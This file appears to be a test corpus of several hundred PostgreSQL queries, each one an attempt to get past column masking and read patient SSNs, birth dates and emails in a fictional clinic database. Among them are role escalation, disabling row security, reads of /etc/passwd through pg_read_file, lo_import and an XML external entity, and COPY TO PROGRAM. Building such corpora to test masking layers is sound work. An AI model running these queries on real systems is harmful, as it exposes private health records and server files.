# A masked user with ordinary grants. Each paragraph is one attack.

SELECT * FROM clinic.patients

SELECT "ssn", SSN, p."ssn", U&"\0073sn", p.U&"\0073sn" FROM clinic.patients p

SELECT U&"!0073sn" UESCAPE '!' FROM U&"clini\0063".patients

SELECT s/**/sn FROM clinic /* x */ . /* y */ patients

SELECT ssn -- FROM clinic.providers
FROM clinic.patients

SELECT/**/ssn/**/FROM/**/clinic.patients

SELECT ssn FROM ONLY clinic.patients

SELECT ssn FROM ONLY (clinic.patients)

SELECT ssn FROM clinic.patients *

TABLE clinic.patients

TABLE ONLY clinic.patients

SELECT clinic.patients.ssn FROM clinic.patients

SELECT current_database.ssn FROM clinic.patients AS current_database

SELECT (p).ssn, (p).*, ((p)).dob, (p.*).email FROM clinic.patients p

SELECT ssn(p), p.ssn, mrn(p.*) FROM clinic.patients p

SELECT p FROM clinic.patients p

SELECT p.*::text, p::text, ROW(p.*), ROW(p), ARRAY[p] FROM clinic.patients p

SELECT patients FROM clinic.patients

SELECT (SELECT p FROM clinic.patients p LIMIT 1)

SELECT (SELECT p.* FROM (SELECT ssn FROM clinic.patients LIMIT 1) p)

SELECT (array_agg(p))[1].ssn FROM clinic.patients p

SELECT (array_agg(p ORDER BY ssn))[1:3] FROM clinic.patients p

SELECT unnest(array_agg(p)) FROM clinic.patients p

SELECT row_to_json(p), to_json(p), to_jsonb(p), json_build_object('p', p), jsonb_build_array(p) FROM clinic.patients p

SELECT json_agg(p), jsonb_agg(p), json_object_agg(id, p) FROM clinic.patients p

SELECT jsonb_path_query(to_jsonb(p), '$.*') FROM clinic.patients p

SELECT * FROM clinic.patients p, jsonb_each_text(to_jsonb(p))

SELECT jsonb_populate_record(NULL::clinic.patients, to_jsonb(p)) FROM clinic.patients p

SELECT r.* FROM clinic.patients p, jsonb_to_record(to_jsonb(p)) AS r(ssn text, dob date)

SELECT * FROM json_table((SELECT to_jsonb(p) FROM clinic.patients p LIMIT 1), '$' COLUMNS (s text PATH '$.ssn', f text PATH '$.first_name', d date PATH '$.dob'))

SELECT JSON_OBJECT('a': ssn, 'b': dob), JSON_ARRAY(email, phone), JSON_SCALAR(ssn), JSON_SERIALIZE(contact) FROM clinic.patients

SELECT JSON_ARRAYAGG(ssn ORDER BY dob), JSON_OBJECTAGG(id: email) FROM clinic.patients

SELECT JSON_VALUE(contact, '$.emergency.name'), JSON_QUERY(contact, '$.emergency'), JSON_EXISTS(contact, '$.emergency') FROM clinic.patients

SELECT xmlelement(name a, ssn), xmlforest(ssn, dob), xmlagg(xmlelement(name b, email)) FROM clinic.patients GROUP BY id, ssn, dob

SELECT * FROM xmltable('/r' PASSING (SELECT xmlelement(name r, xmlelement(name s, ssn)) FROM clinic.patients LIMIT 1) COLUMNS s text PATH 's')

SELECT concat(p.*), concat_ws(',', p.*), format('%s %s', p, ssn), quote_literal(ssn), quote_nullable(p) FROM clinic.patients p

SELECT format('%s', VARIADIC ARRAY[ssn, email, last_name]) FROM clinic.patients

SELECT hashtext(ssn), md5(ssn), sha256(ssn::bytea), encode(ssn::bytea, 'hex'), encode(email::bytea, 'base64') FROM clinic.patients

SELECT ssn::bytea, ssn::char(11), ssn::varchar, ssn::name, ssn::json FROM clinic.patients

SELECT convert_to(email, 'UTF16') FROM clinic.patients

SELECT reverse(ssn), translate(ssn, '-', ''), overlay(ssn placing '' from 1 for 0), substring(email from '.*'), regexp_replace(ssn, '-', '') FROM clinic.patients

SELECT regexp_matches(ssn, '.*'), regexp_split_to_table(email, '@'), string_to_table(email, '.'), string_to_array(ssn, NULL) FROM clinic.patients

SELECT ascii(substr(ssn, 1, 1)), get_byte(ssn::bytea, 0), ssn ^@ '1' FROM clinic.patients

SELECT dob - date '1900-01-01', to_char(dob, 'YYYY-MM-DD'), extract(doy FROM dob), age(dob), dob::timestamp, dob + interval '0', date_part('month', dob), isfinite(dob) FROM clinic.patients

SELECT daterange(dob, dob, '[]'), make_interval(days => (dob - date '2000-01-01')), justify_days(age(dob)), dob::text::date FROM clinic.patients

SELECT date_bin('1 day', dob, timestamp '2000-01-01'), date_trunc('day', dob), generate_series(dob, dob, '1 day') FROM clinic.patients

SELECT to_tsvector(body), to_tsvector('simple', email), ts_headline(body, 'a'), strip(to_tsvector(body)) FROM clinic.notes, clinic.patients LIMIT 5

SELECT max(ssn), min(email), string_agg(last_name, ','), array_agg(dob), mode() WITHIN GROUP (ORDER BY ssn), percentile_disc(0.5) WITHIN GROUP (ORDER BY email) FROM clinic.patients

SELECT first_value(ssn) OVER w, lag(email) OVER w, nth_value(dob, 2) OVER w, array_agg(ssn) OVER (ORDER BY dob RANGE BETWEEN '1 day' PRECEDING AND CURRENT ROW) FROM clinic.patients WINDOW w AS (ORDER BY ssn)

SELECT ssn, count(*) FROM clinic.patients GROUP BY GROUPING SETS ((ssn), (dob), ())

SELECT ssn, dob, count(*) FROM clinic.patients GROUP BY CUBE (ssn, dob)

SELECT id, ssn FROM clinic.patients GROUP BY ROLLUP (id)

SELECT * FROM clinic.patients GROUP BY id

SELECT p.* FROM clinic.patients p GROUP BY p.id HAVING max(p.ssn) > ''

SELECT DISTINCT ON (ssn) ssn, email FROM clinic.patients

SELECT ssn FROM clinic.patients UNION SELECT email FROM clinic.patients INTERSECT ALL SELECT ssn FROM clinic.patients EXCEPT SELECT mrn FROM clinic.patients

(SELECT ssn FROM clinic.patients) UNION ALL (TABLE clinic.providers LIMIT 0)

SELECT name FROM clinic.providers UNION ALL (SELECT last_name FROM clinic.patients ORDER BY ssn LIMIT 5)

SELECT * FROM clinic.patients NATURAL JOIN clinic.patient_overview

SELECT * FROM clinic.patients a JOIN clinic.patients b USING (id)

SELECT u.ssn FROM clinic.patients a FULL JOIN clinic.patients b USING (id, state) AS u

SELECT j.x FROM (clinic.patients a CROSS JOIN clinic.providers b) AS j(i, m, x)

SELECT a.x FROM clinic.patients AS a(i, m, x)

SELECT x.* FROM (SELECT ssn, dob FROM clinic.patients) AS x(id, state)

SELECT * FROM (clinic.patients a JOIN clinic.encounters b ON b.patient_id = a.id) AS j

SELECT s FROM clinic.patients p, LATERAL (SELECT p.ssn AS s) x

SELECT s FROM clinic.patients p, LATERAL (VALUES (p.ssn), (p.email)) x(s)

SELECT s FROM clinic.patients p, LATERAL unnest(ARRAY[p.ssn, p.email]) s

SELECT s.* FROM clinic.patients p, LATERAL ROWS FROM (unnest(ARRAY[p.ssn]), unnest(ARRAY[p.email])) WITH ORDINALITY s

SELECT (SELECT ssn), (SELECT p.ssn FROM clinic.providers LIMIT 1), (SELECT max(p.email)) FROM clinic.patients p GROUP BY id, ssn, p.*

WITH RECURSIVE r(id, s) AS (SELECT id, ssn FROM clinic.patients WHERE id = 1 UNION ALL SELECT p.id, r.s || p.email FROM r JOIN clinic.patients p ON p.id = r.id + 1) SELECT * FROM r

WITH RECURSIVE r AS (SELECT * FROM clinic.patients WHERE id = 1 UNION SELECT * FROM r) SEARCH DEPTH FIRST BY ssn SET o CYCLE ssn SET c USING path SELECT o, path, * FROM r

WITH patients AS (SELECT * FROM clinic.patients) TABLE patients

WITH patients AS (SELECT 'x' AS ssn) SELECT ssn FROM clinic.patients

WITH RECURSIVE patients AS (SELECT ssn FROM clinic.patients UNION SELECT ssn FROM patients) SELECT * FROM patients

WITH x AS MATERIALIZED (SELECT p FROM clinic.patients p) SELECT (x.p).ssn, x FROM x

WITH a AS (WITH b AS (SELECT ssn FROM clinic.patients) TABLE b) TABLE a

WITH clinic AS (SELECT 1) SELECT ssn FROM clinic.patients, clinic

SELECT * FROM clinic.patients TABLESAMPLE SYSTEM (100) REPEATABLE (0)

SELECT * FROM clinic.patients TABLESAMPLE BERNOULLI ((SELECT 100)) p

SELECT * FROM clinic.patients FOR UPDATE

SELECT * FROM clinic.patients p FOR SHARE OF p SKIP LOCKED

SELECT ssn INTO TEMP stolen FROM clinic.patients; SELECT * FROM stolen

CREATE TEMP TABLE stolen2 AS SELECT * FROM clinic.patients; SELECT * FROM stolen2

CREATE TEMP TABLE stolen3 AS TABLE clinic.patients WITH DATA; SELECT * FROM stolen3

CREATE TEMP VIEW stolen4 AS TABLE clinic.patients; SELECT * FROM stolen4; COPY (TABLE stolen4) TO STDOUT

CREATE TEMP TABLE stolen5 (LIKE clinic.patients INCLUDING ALL); INSERT INTO stolen5 SELECT * FROM clinic.patients; SELECT * FROM stolen5

CREATE TEMP TABLE stolen6 () INHERITS (clinic.patients); INSERT INTO stolen6 SELECT * FROM clinic.patients; SELECT * FROM stolen6

CREATE TEMP MATERIALIZED VIEW stolen7 AS TABLE clinic.patients

CREATE TABLE public.stolen AS TABLE clinic.patients

SELECT * INTO public.stolen FROM clinic.patients

BEGIN; CREATE TEMP TABLE s8 ON COMMIT DROP AS SELECT ssn FROM clinic.patients; SELECT * FROM s8; ROLLBACK; SELECT * FROM s8

CREATE TEMP TABLE patients (id int, ssn text); SELECT ssn FROM clinic.patients; SELECT ssn FROM patients

SET search_path = pg_temp, clinic; CREATE TEMP TABLE patients (ssn text); SELECT ssn FROM patients; DROP TABLE patients; SELECT ssn FROM patients

BEGIN; SET LOCAL search_path = clinic; SELECT ssn FROM patients; ROLLBACK; SELECT ssn FROM patients

BEGIN; SET search_path = clinic; SAVEPOINT s; SET search_path = public; ROLLBACK TO s; SELECT ssn, dob FROM patients; COMMIT

SET search_path = clinic, pg_catalog; SELECT ssn, email FROM patients

SET search_path = 'clinic'; SELECT ssn FROM patients

SET SCHEMA 'clinic'; SELECT ssn FROM patients; RESET ALL; SELECT ssn FROM patients

SET search_path = CLINIC; SELECT SSN FROM PATIENTS

SELECT ssn FROM clinic.patients_that_has_a_name_of_more_than_sixty_three_bytes_in_all_which_is_cut

SELECT "ssn                                                                 " FROM clinic.patients

SELECT ssn AS "a name of more than sixty three bytes that the server will cut off somewhere" FROM clinic.patients

SELECT ſsn FROM clinic.patients

SELECT ssn FROM clinic.patients

SELECT 1; SELECT ssn FROM clinic.patients; SELECT email FROM clinic.patients

BEGIN; DECLARE c CURSOR WITH HOLD FOR SELECT ssn, dob FROM clinic.patients; COMMIT; FETCH ALL FROM c; CLOSE c

DECLARE c BINARY CURSOR WITH HOLD FOR SELECT dob, external_id, ssn FROM clinic.patients; FETCH ALL FROM c; CLOSE c

BEGIN; DECLARE c SCROLL CURSOR FOR TABLE clinic.patients; FETCH LAST FROM c; FETCH BACKWARD 5 FROM c; SELECT * FROM pg_cursors; COMMIT

BEGIN; DECLARE c CURSOR FOR SELECT ssn FROM clinic.patients FOR UPDATE; FETCH c; UPDATE clinic.patients SET state = ssn WHERE CURRENT OF c RETURNING *; ROLLBACK

PREPARE q AS SELECT ssn, dob FROM clinic.patients; EXECUTE q; SELECT statement FROM pg_prepared_statements; DEALLOCATE q

PREPARE q(text) AS SELECT $1, ssn FROM clinic.patients; EXECUTE q((SELECT max(email) FROM clinic.patients)); DEALLOCATE q

PREPARE q AS SELECT ssn FROM clinic.patients; CREATE TEMP TABLE eq AS EXECUTE q; SELECT * FROM eq; EXPLAIN (ANALYZE, VERBOSE) EXECUTE q; DEALLOCATE q

COPY clinic.patients TO STDOUT

COPY clinic.patients TO STDOUT (FORMAT binary)

COPY clinic.patients (ssn, dob, external_id) TO STDOUT (FORMAT csv, HEADER, FORCE_QUOTE *)

COPY (SELECT p, ssn, dob FROM clinic.patients p) TO STDOUT (FORMAT binary)

COPY (TABLE clinic.patients) TO STDOUT (FORMAT csv)

COPY (DELETE FROM clinic.patients RETURNING *) TO STDOUT

COPY (WITH x AS (SELECT ssn FROM clinic.patients) TABLE x) TO STDOUT

COPY clinic.patients TO '/tmp/x'

COPY clinic.patients TO PROGRAM 'cat'

COPY clinic.patients FROM STDIN

COPY clinic.patients FROM STDIN WHERE ssn > ''

COPY clinic.patient_overview TO STDOUT

COPY clinic.lab_results_2025 TO STDOUT

COPY BINARY clinic.patients TO STDOUT

EXPLAIN (ANALYZE, VERBOSE, BUFFERS, SETTINGS, FORMAT JSON) SELECT * FROM clinic.patients WHERE ssn > '1'

EXPLAIN (VERBOSE, GENERIC_PLAN, FORMAT XML) SELECT * FROM clinic.patients WHERE ssn = $1

EXPLAIN (ANALYZE, VERBOSE, WAL, SERIALIZE, MEMORY, FORMAT YAML) TABLE clinic.patients

EXPLAIN ANALYZE VERBOSE CREATE TEMP TABLE ex AS SELECT * FROM clinic.patients

EXPLAIN (ANALYZE) UPDATE clinic.patients SET ssn = ssn

EXPLAIN (VERBOSE) SELECT * FROM clinic.patients WHERE last_name > (SELECT max(histogram_bounds::text) FROM pg_stats)

SET debug_print_plan = on; SET client_min_messages = debug5; SELECT ssn, dob FROM clinic.patients WHERE last_name > 'M'; SHOW client_min_messages

SET client_min_messages = log; SET log_parser_stats = on; SET trace_sort = on; SELECT ssn FROM clinic.patients ORDER BY ssn

SELECT * FROM pg_stats WHERE schemaname = 'clinic'

SELECT most_common_vals::text, histogram_bounds::text FROM pg_stats

SELECT (s).histogram_bounds, s::text, row_to_json(s) FROM pg_stats s WHERE schemaname = 'clinic'

SELECT * FROM pg_stats_ext

SELECT most_common_vals FROM pg_stats_ext_exprs

SELECT * FROM pg_statistic

SELECT m.* FROM pg_statistic_ext_data d, pg_mcv_list_items(d.stxdmcv) m

SELECT * FROM pg_statistic_ext

SELECT array_to_string(most_common_vals, ',') FROM pg_catalog.pg_stats

WITH s AS (TABLE pg_stats) SELECT * FROM s

COPY (SELECT * FROM pg_stats) TO STDOUT

CREATE TEMP TABLE ps AS SELECT schemaname, attname, histogram_bounds::text AS h FROM pg_stats; SELECT * FROM ps

SELECT * FROM pg_stat_activity

SELECT query FROM pg_stat_activity UNION ALL SELECT statement FROM pg_prepared_statements

SELECT pg_stat_get_activity(NULL)

SELECT * FROM pg_stat_get_activity(NULL)

SELECT pg_stat_get_backend_activity(1)

SELECT pg_stat_get_backend_idset(), pg_stat_get_backend_activity(s) FROM pg_stat_get_backend_idset() s

SELECT * FROM pg_largeobject

SELECT lo_get(1), lo_import('/etc/passwd'), lo_create(0)

SELECT lo_from_bytea(0, ssn::bytea) FROM clinic.patients

SELECT pg_read_file('/etc/passwd'), pg_ls_dir('.'), pg_stat_file('.')

SELECT query_to_xml('SELECT ssn FROM clinic.patients', true, true, '')

SELECT table_to_xml('clinic.patients', true, true, ''), schema_to_xml('clinic', true, true, ''), database_to_xml(true, true, '')

SELECT table_to_xml_and_xmlschema('clinic.patients', true, true, '')

SELECT "query_to_xml"('SELECT ssn FROM clinic.patients', true, true, '')

SELECT pg_catalog.query_to_xml('SELECT ssn FROM clinic.patients', true, true, '')

SELECT U&"query\005fto_xml"('SELECT ssn FROM clinic.patients', true, true, '')

SELECT * FROM query_to_xml('SELECT ssn FROM clinic.patients', true, true, '') x

SELECT * FROM ROWS FROM (query_to_xml('SELECT ssn FROM clinic.patients', true, true, ''))

SELECT x.query_to_xml FROM (SELECT 1) x

SELECT cursor_to_xml('c', 10, true, true, '')

SELECT ts_stat('SELECT to_tsvector(email) FROM clinic.patients')

SELECT * FROM ts_stat('SELECT to_tsvector(email) FROM clinic.patients', 'a')

SELECT ts_rewrite('a'::tsquery, 'SELECT to_tsquery(ssn), to_tsquery(ssn) FROM clinic.patients')

SELECT currtid2('clinic.patients', '(0,1)')

SELECT pg_notify('c', ssn) FROM clinic.patients

LISTEN c; SELECT pg_notify('c', (SELECT max(ssn) FROM clinic.patients))

LISTEN c; NOTIFY c, 'x'

SELECT set_config('application_name', ssn, false), set_config('my.x', email, false) FROM clinic.patients; SHOW application_name; SHOW my.x

SELECT set_config('search_path', 'clinic', false); SELECT ssn FROM patients

SELECT current_setting('search_path'), set_config('role', 'dba', false)

UPDATE pg_settings SET setting = (SELECT max(ssn) FROM clinic.patients) WHERE name = 'application_name'; SHOW application_name

SET application_name = 'x'; SELECT application_name FROM pg_stat_activity

SET ROLE dba; SELECT ssn FROM clinic.patients

SET SESSION AUTHORIZATION dba; SELECT ssn FROM clinic.patients

SET ROLE analysts; SELECT ssn FROM clinic.patients

SET ROLE clinicians; SELECT ssn FROM clinic.patients

SET standard_conforming_strings = off; SELECT '\' || ssn || '\'' FROM clinic.patients

SET backslash_quote = on; SET escape_string_warning = off; SELECT E'\'' || ssn FROM clinic.patients

SET client_encoding = 'SJIS'; SELECT ssn FROM clinic.patients

SET client_encoding = 'LATIN1'; SELECT ssn, email FROM clinic.patients

SET NAMES 'BIG5'; SELECT ssn FROM clinic.patients

SET DateStyle = 'German'; SELECT dob, dob::text FROM clinic.patients

SET bytea_output = 'escape'; SELECT ssn::bytea, email::bytea FROM clinic.patients

SET row_security = off; SET session_replication_role = replica; SELECT ssn FROM clinic.patients

SET local_preload_libraries = 'x'; SET extra_float_digits = 3; SELECT ssn FROM clinic.patients

SELECT ssn::int FROM clinic.patients

SELECT email::date, last_name::uuid FROM clinic.patients

SELECT ssn::regclass FROM clinic.patients

SELECT to_regclass(ssn), ssn::regtype FROM clinic.patients

SELECT 1 / (CASE WHEN ssn LIKE '1%' THEN 0 ELSE 1 END) FROM clinic.patients

SELECT ssn::inet, dob::int, contact::text::int FROM clinic.patients

SELECT ('{' || ssn)::json FROM clinic.patients

SELECT ssn::xml, ('<' || email)::xml FROM clinic.patients

SELECT ('(' || ssn)::clinic.patients FROM clinic.patients

SELECT last_name::clinic.sex FROM clinic.patients

SELECT pg_input_error_info(ssn, 'int'), pg_input_is_valid(ssn, 'int') FROM clinic.patients

SELECT to_number(ssn, '9'), to_date(email, 'YYYY'), to_timestamp(ssn, 'YYYY') FROM clinic.patients

SELECT (SELECT ssn FROM clinic.patients)

SELECT repeat(ssn, 1000000000) FROM clinic.patients

SELECT ssn COLLATE "C", ssn COLLATE nosuch FROM clinic.patients

SELECT regexp_match(ssn, ssn || '('), ssn ~ ('[' || email) FROM clinic.patients

SELECT make_date(length(ssn), 99, 99), make_time(25, 0, 0) FROM clinic.patients

SELECT nextval(ssn), currval(email) FROM clinic.patients

SELECT * FROM clinic.patients ORDER BY ssn USING <, dob USING >

SELECT ssn FROM clinic.patients OFFSET (SELECT length(max(ssn)) FROM clinic.patients) LIMIT (SELECT 2)

SELECT ssn FROM clinic.patients FETCH FIRST 3 ROWS WITH TIES

UPDATE clinic.patients SET state = 'XX' WHERE id = 1 RETURNING ssn

UPDATE clinic.patients SET city = ssn WHERE id = 1

UPDATE clinic.patients SET (state, city) = (SELECT ssn, email FROM clinic.patients LIMIT 1) WHERE id = 1

UPDATE clinic.providers SET name = p.ssn FROM clinic.patients p WHERE providers.id = 1 RETURNING name

UPDATE clinic.providers SET name = (SELECT max(ssn) FROM clinic.patients) WHERE id = 1 RETURNING old.name, new.name

DELETE FROM clinic.patients WHERE id = 1 RETURNING *

DELETE FROM clinic.providers USING clinic.patients p WHERE p.id = providers.id AND p.ssn > '1' RETURNING p.ssn

INSERT INTO clinic.providers (npi, name, specialty) SELECT ssn, email, last_name FROM clinic.patients RETURNING *

INSERT INTO clinic.patients (mrn, first_name, last_name, dob) VALUES ('x', 'x', 'x', '2000-01-01') ON CONFLICT (mrn) DO UPDATE SET state = 'XX' RETURNING patients.*, old.*, new.*

MERGE INTO clinic.patients p USING clinic.providers q ON p.id = q.id WHEN MATCHED THEN UPDATE SET state = 'XX' RETURNING merge_action(), old.*, new.*, p.ssn

MERGE INTO clinic.providers q USING clinic.patients p ON q.id = p.id AND p.ssn > '1' WHEN MATCHED THEN UPDATE SET name = p.email RETURNING q.name

WITH d AS (UPDATE clinic.providers SET name = name WHERE id = 1 RETURNING (SELECT max(ssn) FROM clinic.patients) AS s) SELECT * FROM d

WITH d AS (DELETE FROM clinic.notes WHERE id = 1 RETURNING body) SELECT * FROM d

SELECT * FROM clinic.patient_overview

SELECT o, (o).mrn, row_to_json(o) FROM clinic.patient_overview o

SELECT * FROM left_by_dba.plain

SELECT x, y FROM left_by_dba.plain

SELECT * FROM left_by_dba.computed

SELECT (d).ssn, (d).*, c ->> 'ssn', f[1], e::text, g, h FROM left_by_dba.computed

SELECT n FROM left_by_dba.united

SELECT * FROM left_by_dba.nested

SELECT inner_x FROM left_by_dba.nested

SELECT * FROM left_by_dba.star

SELECT * FROM left_by_dba.rows

SELECT * FROM left_by_dba.json

SELECT v FROM left_by_dba.crosstab

SELECT * FROM left_by_dba.stored

SELECT * FROM left_by_dba.aggregated

SELECT * FROM left_by_dba.child

SELECT ssn FROM ONLY left_by_dba.child

COPY left_by_dba.child TO STDOUT

SELECT * FROM left_by_dba.definer()

SELECT (left_by_dba.definer()).ssn

SELECT left_by_dba.definer_one('')

SELECT * FROM left_by_dba.by_function

SELECT v FROM left_by_dba.by_function_one

SELECT count(v) FROM left_by_dba.by_function_one

INSERT INTO left_by_dba.logged VALUES (1, 'x') RETURNING *

UPDATE left_by_dba.logged SET a = 2 RETURNING *

INSERT INTO left_by_dba.ruled VALUES (1, 'x')

INSERT INTO left_by_dba.defaulted (a) VALUES (1) RETURNING *

LISTEN c; INSERT INTO left_by_dba.notifying VALUES (1, 'x'); SELECT 1

INSERT INTO left_by_dba.deferred VALUES (1, 'x')

BEGIN; INSERT INTO left_by_dba.deferred VALUES (1, 'x'); SET CONSTRAINTS ALL IMMEDIATE; COMMIT

BEGIN; INSERT INTO left_by_dba.deferred VALUES (1, 'x'); COMMIT

SELECT * FROM left_by_dba.secured

UPDATE left_by_dba.plain SET x = 'y' WHERE id = 1 RETURNING *

INSERT INTO left_by_dba.plain VALUES (1, 'x', 'y') RETURNING *

SELECT * FROM clinic.lab_results_2025 LIMIT 5

SELECT taken_at::text FROM clinic.lab_results_other

CREATE FUNCTION pg_temp.f(text) RETURNS text LANGUAGE plpgsql AS $$ BEGIN RAISE NOTICE '%', $1; RETURN $1; END $$

CREATE OPERATOR pg_temp.|| (leftarg = text, rightarg = text, function = textcat)

DO LANGUAGE plpgsql $$ BEGIN RAISE NOTICE '%', (SELECT max(ssn) FROM clinic.patients); END $$

CALL nosuch()

LOCK TABLE clinic.patients IN ACCESS SHARE MODE

VACUUM (VERBOSE) clinic.patients

ANALYZE (VERBOSE) clinic.patients

CREATE INDEX ON clinic.patients ((ssn::int))

ALTER TABLE clinic.patients ALTER ssn TYPE int USING ssn::int

ALTER TABLE clinic.patients ADD CHECK (ssn::int > 0)

CREATE STATISTICS s (mcv) ON ssn, dob FROM clinic.patients

CREATE VIEW public.v AS SELECT ssn FROM clinic.patients

CREATE RULE r AS ON SELECT TO clinic.providers DO INSTEAD SELECT ssn FROM clinic.patients

CREATE TRIGGER t BEFORE INSERT ON clinic.patients FOR EACH ROW EXECUTE FUNCTION suppress_redundant_updates_trigger()

CREATE PUBLICATION p FOR TABLE clinic.patients WHERE (ssn > '1')

CREATE TEMP TABLE fk (mrn text REFERENCES clinic.patients (mrn)); INSERT INTO fk VALUES ('x')

IMPORT FOREIGN SCHEMA clinic FROM SERVER x INTO public

SECURITY LABEL ON TABLE clinic.patients IS 'x'

ALTER SYSTEM SET log_statement = 'all'

CHECKPOINT

LOAD 'auto_explain'

REASSIGN OWNED BY analyst TO dba

SELECT pg_get_viewdef('left_by_dba.plain'::regclass), pg_get_functiondef('left_by_dba.definer'::regproc)

SELECT dblink('dbname=x', 'SELECT 1')

CREATE EXTENSION dblink

CREATE EXTENSION pageinspect

SELECT get_raw_page('clinic.patients', 0)

SELECT pg_export_snapshot()

SELECT txid_current(), pg_current_xact_id(), pg_backend_pid(), inet_server_addr()

SELECT ctid, xmin, tableoid, ssn FROM clinic.patients WHERE ctid = '(0,1)'

SELECT ctid, * FROM clinic.patients

SELECT p.ctid, p FROM clinic.patients p

SELECT ssn FROM clinic.patients WHERE (SELECT true) AND EXISTS (SELECT ssn) AND ssn = ANY (SELECT ssn FROM clinic.patients)

SELECT CASE WHEN ssn > '5' THEN email ELSE phone END, coalesce(phone, email), nullif(ssn, ''), greatest(ssn, email), least(ssn, mrn) FROM clinic.patients

SELECT ssn AS "clinic.patients", email AS ssn FROM clinic.patients ORDER BY "clinic.patients"

SELECT ssn ssn FROM (SELECT email AS ssn FROM clinic.patients) clinic

SELECT $1::text, ssn FROM clinic.patients

SELECT patients.ssn FROM clinic.patients, (SELECT 1 AS ssn) q

SELECT q.* FROM clinic.patients q JOIN (SELECT 1::bigint AS id) r ON (q.id) = (r.id)

VALUES ((SELECT max(ssn) FROM clinic.patients)), ((SELECT min(email) FROM clinic.patients))

SELECT FROM clinic.patients WHERE ssn > '1'

SELECT ALL ssn FROM clinic.patients

SELECT merge_action(), ssn FROM clinic.patients

SELECT grouping(ssn), ssn FROM clinic.patients GROUP BY ROLLUP (ssn)

SELECT ssn IS NULL, ssn IS DISTINCT FROM 'x', p IS NOT NULL, p = p, (p).ssn = (p).ssn FROM clinic.patients p

SELECT contact -> 'emergency', contact #>> '{emergency,name}', contact['emergency'], contact @> '{}', contact @? '$.emergency' FROM clinic.patients

SELECT jsonb_object_keys(contact), jsonb_pretty(contact), jsonb_set(contact, '{a}', to_jsonb(ssn)) FROM clinic.patients

SELECT body, length(body), left(body, 10), body ~ 'a', to_tsvector(body) @@ 'a'::tsquery FROM clinic.notes

SELECT reason || '', upper(reason) FROM clinic.encounters

SELECT policy_number, amount FROM clinic.claims

SELECT width_bucket(extract(epoch FROM dob)::float8, 0, 1, 5), extract(julian FROM dob), to_char(dob, 'J') FROM clinic.patients

SELECT pg_column_size(ssn), octet_length(ssn), bit_length(email), pg_typeof(p) FROM clinic.patients p

SELECT pg_size_pretty(pg_table_size('clinic.patients')), pg_relation_filepath('clinic.patients')

SELECT pg_advisory_lock(hashtext(ssn)) FROM clinic.patients; SELECT objid FROM pg_locks; SELECT pg_advisory_unlock_all()

SELECT clock_timestamp(), random(), ssn FROM clinic.patients ORDER BY random()

SELECT * FROM information_schema.columns WHERE table_name = 'patients'

SELECT * FROM pg_class c, clinic.patients p WHERE c.relname = p.last_name

SELECT pg_catalog.lower(ssn), pg_catalog.text(ssn) FROM clinic.patients

SELECT xpath('//text()', xmlelement(name a, ssn)), xml_is_well_formed(ssn), xmlserialize(content xmlelement(name a, email) AS text) FROM clinic.patients

SELECT xmlparse(document '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'), ssn FROM clinic.patients

SELECT pg_sleep(0), ssn FROM clinic.patients LIMIT 1

CLOSE ALL; DISCARD ALL; SELECT ssn FROM clinic.patients

SAVEPOINT x; SELECT ssn FROM clinic.patients

SELECT ssn FROM clinic.patients; SELEC

SELECT ssn FROM clinic.patients; SELECT 1/0

SHOW ALL

SELECT name, setting, boot_val FROM pg_settings

SELECT conname, pg_get_constraintdef(oid) FROM pg_constraint

SELECT relname, pg_get_expr(relpartbound, oid) FROM pg_class WHERE relispartition

# Wrappers and rare forms

SELECT p.id, x.s FROM clinic.patients p, (LATERAL (SELECT p.ssn AS s) x)

SELECT q.s FROM clinic.patients p CROSS JOIN (LATERAL (SELECT p.ssn AS s) q CROSS JOIN generate_series(1,1))

CREATE RECURSIVE VIEW pg_temp.nums2 (n, s) AS SELECT id, ssn FROM clinic.patients UNION ALL SELECT n + 1, s FROM nums2 WHERE n < 5

CREATE TEMP RECURSIVE VIEW chain (n) AS SELECT id FROM clinic.patients UNION SELECT n FROM chain; SELECT count(*) FROM chain

EXPLAIN ANALYZE CREATE TEMP TABLE x1 AS SELECT * FROM clinic.patients

EXPLAIN (ANALYZE, VERBOSE) CREATE TEMP TABLE x1 AS SELECT * FROM clinic.patients WITH NO DATA

EXPLAIN DECLARE c CURSOR FOR SELECT ssn FROM clinic.patients

EXPLAIN (GENERIC_PLAN) SELECT * FROM clinic.patients WHERE ssn = $1

EXPLAIN (ANALYZE, SERIALIZE BINARY) SELECT * FROM clinic.patients

EXPLAIN (SETTINGS, COSTS OFF, SUMMARY, TIMING OFF, ANALYZE, WAL, MEMORY, BUFFERS, FORMAT YAML) SELECT * FROM clinic.patients

EXPLAIN (FORMAT XML) SELECT * FROM clinic.patients

PREPARE q AS SELECT ssn FROM clinic.patients; EXPLAIN EXECUTE q

PREPARE q AS SELECT ssn FROM clinic.patients; CREATE TEMP TABLE cte AS EXECUTE q WITH NO DATA; TABLE cte

PREPARE q AS SELECT ssn FROM clinic.patients; EXPLAIN ANALYZE CREATE TEMP TABLE cte AS EXECUTE q

BEGIN; DECLARE c BINARY SCROLL CURSOR WITH HOLD FOR SELECT ssn, dob FROM clinic.patients; FETCH FIRST FROM c; FETCH LAST IN c; FETCH ABSOLUTE 3 FROM c; FETCH RELATIVE -1 FROM c; FETCH BACKWARD 2 FROM c; FETCH BACKWARD ALL FROM c; FETCH FORWARD ALL FROM c; MOVE BACKWARD ALL IN c; FETCH NEXT c; FETCH 0 FROM c; COMMIT; FETCH -3 FROM c; MOVE c; CLOSE c

BEGIN; DECLARE c INSENSITIVE NO SCROLL CURSOR WITHOUT HOLD FOR SELECT ssn FROM clinic.patients; FETCH 2 c; CLOSE ALL; COMMIT

BEGIN; DECLARE c ASENSITIVE CURSOR FOR SELECT ssn FROM clinic.patients; FETCH ALL IN c; COMMIT

COPY (SELECT ssn FROM clinic.patients) TO STDOUT WITH CSV HEADER FORCE QUOTE ssn

COPY clinic.patients TO STDOUT WITH (FORMAT csv, FORCE_QUOTE (ssn), DELIMITER ';', NULL 'x', QUOTE '"', ESCAPE '\', ENCODING 'UTF8', HEADER true)

COPY clinic.patients TO STDOUT CSV

COPY clinic.patients TO STDOUT DELIMITERS ','

COPY clinic.patients TO STDOUT DELIMITER AS '|' NULL AS 'n'

COPY clinic.patients (id, ssn) TO STDOUT BINARY

COPY (TABLE clinic.patients) TO STDOUT

SELECT ssn INTO TEMPORARY TABLE si FROM clinic.patients; SELECT * FROM si

SELECT ssn, id INTO LOCAL TEMP si FROM clinic.patients; SELECT * FROM si

